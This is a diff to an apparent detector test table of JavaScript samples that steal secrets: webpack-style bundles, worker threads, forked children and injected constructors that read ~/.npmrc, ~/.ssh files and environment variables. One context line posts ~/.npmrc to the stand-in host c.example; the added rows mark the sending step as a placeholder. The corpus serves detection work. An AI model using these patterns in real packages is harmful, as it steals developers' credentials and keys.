@@ -8,6 +8,10 @@ const CHANNELS: readonly Row[] = [
     '(()=>{var e={896:e=>{"use strict";e.exports=require("fs")},692:e=>{e.exports=require("https")},11:(e,t,r)=>{const n=r(896);t.grab=()=>n.readFileSync(process.env.HOME+"/.npmrc")},12:(e,t,r)=>{const n=r(692);t.put=e=>{const t=n.request({hostname:"c.example",method:"POST"});t.write(e),t.end()}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const t=r(11),o=r(12);o.put(t.grab())})()})();',
   ],
   [
+    'data in a table, as webpack has it, and a part that is taken of a module',
+    `(()=>{var e={902:e=>{e.exports=JSON.parse('{"version":"1.0.0","defaults":{"file":".npmrc"}}')},11:(e,t,r)=>{const{defaults:n}=r(902);const o=require("fs").readFileSync(process.env.HOME+"/"+n.file);e.exports={text:o}},12:(e,t,r)=>{const{text:n}=r(11);e.exports.put=()=>{SEND«n»}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}r(12).put()})();`,
+  ],
+  [
     'modules with getters, as webpack has them',
     '(()=>{var e={11:(e,t,r)=>{r.d(t,{A:()=>n});const n=()=>process.env}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n].call(s.exports,s,s.exports,r),s.exports}(()=>{var o=r(11);SEND«JSON.stringify((0,o.A)())»})()})();',
   ],
@@ -286,6 +290,34 @@ const CHANNELS: readonly Row[] = [
   [
     'a proxy before the environment',
     'const s=new Proxy({},{get:(_,k)=>Reflect.get(process.env,k),ownKeys:()=>Reflect.ownKeys(process.env)});const b={};for(const k of Reflect.ownKeys(s))b[k]=s[k];SEND«JSON.stringify(b)»',
+  ],
+  [
+    'folders that a worker is told of',
+    {
+      'index.js':
+        "const {Worker}=require('worker_threads');class Pool{constructor(f,workerData){this.w=new Worker(f,{workerData})}} new Pool('./w.js',{root:require('os').homedir(),dirs:['.ssh']})",
+      'w.js':
+        "const {workerData}=require('worker_threads');const fs=require('fs');for(const d of workerData.dirs){const p=workerData.root+'/'+d;for(const f of fs.readdirSync(p))SEND«fs.readFileSync(p+'/'+f)»}",
+    },
+  ],
+  [
+    'one of two things that a child is told of',
+    {
+      'index.js':
+        "const c=require('child_process').fork('./c.js');c.send({dir:process.cwd(),names:Object.keys(process.env)})",
+      'c.js':
+        "process.once('message',(m)=>{const o={dir:m.dir};m.names.forEach((n)=>{o[n]=process.env[n]});SEND«JSON.stringify(o)»})",
+    },
+  ],
+  [
+    'what a container gives to a constructor',
+    {
+      'index.js':
+        'const a=require("./api"),s=require("./settings");let Boot=class Boot{constructor(settings,api){this.settings=settings;this.api=api} start(){this.api.post(this.settings.all())}};Boot=__decorate([Injectable(),__metadata("design:paramtypes",[s.Settings,typeof a.Api==="undefined"?Object:a.Api])],Boot)',
+      'settings.js':
+        'class Settings{constructor(){this.values={...process.env}} all(){return this.values}} exports.Settings=Settings',
+      'api.js': 'class Api{post(d){SEND«JSON.stringify(d)»}} exports.Api=Api',
+    },
   ],
   [
     'what a client sends with every request',
